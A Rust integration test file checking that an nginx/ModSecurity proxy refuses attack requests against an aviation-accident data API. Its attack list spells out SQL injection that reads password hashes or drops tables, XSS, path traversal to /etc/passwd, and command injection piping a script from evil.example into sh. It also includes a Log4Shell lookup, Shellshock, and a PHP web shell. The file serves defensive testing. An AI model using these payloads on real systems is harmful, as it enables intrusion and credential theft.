//! Attacks are refused before they reach the service.

use ntsb_tests::database::Database;
use ntsb_tests::wait_for;
use serde_json::json;

use super::proxy::{Nginx, Request};
use super::requests::{percent_encode, start_service};

fn query(path: &str, name: &str, value: &str) -> Request {
    Request::get(format!("{path}?{name}={}", percent_encode(value)))
}

/// What is attacked and how, and the request.
fn attacks() -> Vec<(&'static str, Request)> {
    let events = "/api/v1/events";
    let search = "/api/v1/search";
    let predict =
        |value: &str| Request::post("/api/v1/predictions/severity", &json!({ "acft_make": value }));
    vec![
        ("SQL injection, tautology", query(events, "state", "AK' OR '1'='1' -- ")),
        (
            "SQL injection, UNION",
            query(events, "make", "x' UNION SELECT usename, passwd FROM pg_shadow--"),
        ),
        ("SQL injection, stacked", query(search, "q", "1; DROP TABLE events; --")),
        ("SQL injection, blind", query(events, "model", "1' AND pg_sleep(10)--")),
        ("SQL injection in a body", predict("x' UNION SELECT rolpassword FROM pg_authid -- ")),
        (
            "SQL injection beside a filter",
            Request::get(format!(
                "/api/v1/search?filter={}&q={}",
                percent_encode("fatalities > 0"),
                percent_encode("1' UNION SELECT NULL,version()--")
            )),
        ),
        ("script in an argument", query(search, "q", "<script>alert(document.cookie)</script>")),
        ("event handler", query(search, "q", "<img src=x onerror=alert(1)>")),
        ("script in a filter", query(search, "filter", "<script>alert(1)</script>")),
        ("script in a body", predict("<svg/onload=alert(1)>")),
        ("path traversal", query("/docs/", "file", "../../../../etc/passwd")),
        (
            "encoded path traversal",
            Request::get("/docs/?file=..%252f..%252f..%252f..%252fetc%252fpasswd"),
        ),
        ("local file", query(events, "page", "/etc/shadow")),
        ("PHP stream", query(search, "q", "php://filter/convert.base64-encode/resource=index")),
        ("hidden file", Request::get("/.git/config")),
        ("environment file", Request::get("/.env")),
        ("command injection", query(search, "q", "x; cat /etc/passwd")),
        ("command substitution", query(search, "q", "$(curl http://evil.example/x.sh | sh)")),
        ("Shellshock", Request::get("/").header("user-agent", "() { :;}; /bin/bash -c 'id'")),
        ("Log4Shell", Request::get("/").header("x-api-version", "${jndi:ldap://evil.example/a}")),
        ("PHP code", query(search, "q", "<?php system($_GET['c']); ?>")),
        ("Node.js code", query(search, "q", "require('child_process').exec('id')")),
        ("remote file", query(events, "page", "http://203.0.113.9/shell.php?")),
        (
            "scanner sqlmap",
            Request::get("/").header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ),
        ("scanner Nikto", Request::get("/").header("user-agent", "Mozilla/5.00 (Nikto/2.1.6)")),
        ("response splitting", query(search, "q", "x\r\nSet-Cookie: admin=1\r\n\r\n<html>")),
        ("request smuggling", query(search, "q", "x\r\nGET /admin HTTP/1.1\r\nHost: x")),
        ("method", Request { method: "PUT", ..Request::get("/api/v1/events") }),
        (
            "content type",
            Request {
                method: "POST",
                body: Some("<key/>".into()),
                ..Request::get("/api/v1/auth/token")
            }
            .header("content-type", "text/xml"),
        ),
        ("NUL byte", query(events, "state", "A\0")),
    ]
}

#[test]
fn attacks_are_refused() {
    let database = Database::with_sample();
    let service = start_service(&database);
    let bearer = service.create_bearer(&database, "admin", "premium");
    let nginx = Nginx::start_unlimited(&service.address);
    let attacks = attacks();
    // A token does not help.
    let requests: Vec<Request> = attacks
        .iter()
        .map(|(_, request)| request.clone().header("authorization", &bearer))
        .collect();
    let responses = nginx.send(&requests);
    // nginx writes an entry after it has answered. An attack that passed has none.
    let refused: Vec<&Request> = requests
        .iter()
        .zip(&responses)
        .filter_map(|(request, response)| (response.status == 403).then_some(request))
        .collect();
    let refused_by = wait_for("the log of refusals", 30, || {
        let found = nginx.refused_by();
        refused.iter().all(|request| found.contains_key(&request.path)).then_some(found)
    });
    let mut passed = Vec::new();
    for ((name, request), response) in attacks.iter().zip(&responses) {
        if response.status != 403 || !response.text().contains("<center>nginx</center>") {
            passed.push(format!("{name}: {} {}", response.status, response.text()));
            continue;
        }
        let rules = &refused_by[&request.path];
        assert!(!rules.is_empty(), "{name}");
        // The answer does not tell which rule.
        assert!(rules.iter().all(|rule| !response.text().contains(rule.as_str())), "{name}");
    }
    assert!(passed.is_empty(), "{} of {}:\n{}", passed.len(), attacks.len(), passed.join("\n"));
    println!("{} attacks refused", attacks.len());
    // The log of refusals holds no token and no body, but what a rule matched.
    let log = nginx.log("modsecurity.log");
    let token = bearer.trim_start_matches("Bearer ");
    assert!(!log.contains(token) && !log.contains("acft_make\\\":"), "{token}");
}

/// nginx itself refuses what is no HTTP.
#[test]
fn malformed_requests_are_refused() {
    let nginx = Nginx::start_unlimited("127.0.0.1:9");
    let plain = [
        ("GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", "400"),
        ("GET / HTTP/1.1\r\n\r\n", "400"),
        ("GET /docs/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: x\r\n\r\n", "400"),
        (
            "POST / HTTP/1.1\r\nHost: ntsb.example.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "400",
        ),
        ("GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", "400"),
        ("TRACE / HTTP/1.1\r\nHost: ntsb.example.com\r\n\r\n", "405"),
    ];
    for (request, expected) in plain {
        let answer = super::tls::send_raw(&nginx, request);
        let status = answer.split(' ').nth(1).unwrap_or_default();
        assert_eq!(status, expected, "{request:?}: {answer}");
    }
}
